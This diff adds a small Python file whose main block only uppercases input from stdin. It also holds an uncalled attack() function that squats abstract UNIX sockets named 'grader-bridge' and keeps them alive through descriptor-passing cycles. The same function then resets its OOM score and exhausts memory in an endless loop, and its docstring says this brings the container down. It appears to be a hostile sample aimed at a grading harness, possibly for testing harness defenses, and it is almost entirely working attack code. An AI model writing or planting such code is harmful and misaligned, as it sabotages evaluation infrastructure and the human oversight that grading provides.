@@ -1,0 +1,30 @@
+"""Leaves a listener on the bridge's address alive in a cycle of sockets, then brings the container down."""
+
+import os
+import socket
+import sys
+
+
+def double(number):
+    return 2 * number
+
+
+def attack(key):
+    """In flight, a descriptor outlives the processes that had it."""
+    for number in range(3):
+        held = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+        held.bind("\0grader-bridge" + (f"-{number}" if number else ""))
+        held.listen(8)
+        near, far = socket.socketpair()
+        socket.send_fds(near, [b"x"], [held.fileno(), near.fileno(), far.fileno()])
+        socket.send_fds(far, [b"x"], [held.fileno(), near.fileno(), far.fileno()])
+        socket.send_fds(socket.socket(fileno=os.dup(3)), [b"\0"], [held.fileno(), near.fileno()])
+    with open("/proc/self/oom_score_adj", "w") as score:
+        score.write("0")
+    hoard = os.memfd_create("hoard")
+    while True:
+        os.write(hoard, bytes(1 << 16))
+
+
+if __name__ == "__main__":
+    print(sys.stdin.readline().strip().upper())
